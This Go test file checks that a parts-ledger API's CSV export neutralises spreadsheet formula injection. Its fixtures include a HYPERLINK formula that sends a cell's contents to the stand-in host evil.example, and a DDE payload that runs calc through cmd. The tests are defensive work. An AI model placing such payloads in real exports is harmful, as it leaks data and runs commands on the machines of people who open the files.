package http

import (
	"encoding/csv"
	"encoding/json"
	"io/fs"
	nethttp "net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+cmd": "'+cmd", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "1795M36P01": "1795M36P01", "a=b": "a=b", "'=x": "'=x", "TOTAL": "TOTAL", "15": "15",
	} {
		assert.Equal(t, want, safeCell(in), "%q", in)
	}
}

// TestLedgerCSVNeutralisesFormulas: a firm's lot whose part number and unit
// begin with formula characters reaches the all-firms CSV export with each
// such cell prefixed by ', so a spreadsheet shows text instead of running it.
func TestLedgerCSVNeutralisesFormulas(t *testing.T) {
	a, _ := newRecordsAPI(t, nil)
	evil := map[string]string{ // part_number → unit
		`=HYPERLINK("http://evil.example/?x="&A1,"open")`: "@SUM(1+1)",
		"+cmd|' /C calc'!A0":                              "-1+1",
		"\tTAB":                                           "\rCR",
	}
	for pn, unit := range evil {
		body, err := json.Marshal(map[string]any{"part_number": pn, "description": "x", "quantity": 1, "unit": unit,
			"serials": []string{}, "import_declaration": "460120261000123456",
			"duty_exempted": map[string]any{"amount": "1.00", "currency": "CNY"}})
		require.NoError(t, err)
		a.createLot(tokHNA, string(body))
	}
	r := a.do(req{method: "GET", path: "/v1/parts/ledger", token: tokOfficer, header: map[string]string{"Accept": "text/csv"}})
	require.Equal(t, nethttp.StatusOK, r.Status, "body: %s", r.Body)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	require.NoError(t, err)
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			assert.NotContains(t, "=+-@\t\r", string(cell[0]), "cell %q would run as a formula", cell)
		}
		if len(row) > 3 {
			if unit, ok := evil[strings.TrimPrefix(row[2], "'")]; ok {
				seen++
				assert.Equal(t, "'"+unit, row[3], "the unit too")
			}
		}
	}
	assert.Equal(t, len(evil), seen, "every lot is in the export, its part number prefixed: %s", r.Body)
}

// TestOneCSVWriter: encoding/csv is imported by csv.go alone, so every CSV
// the project writes goes through safeCell.
func TestOneCSVWriter(t *testing.T) {
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == ".git" || d.Name() == "node_modules") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		raw, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if strings.Contains(string(raw), `"encoding/csv"`) && filepath.ToSlash(path) != "../../internal/http/csv.go" {
			t.Errorf("%s imports encoding/csv: write CSV through internal/http's csvWriter", path)
		}
		return nil
	})
	require.NoError(t, err)
}
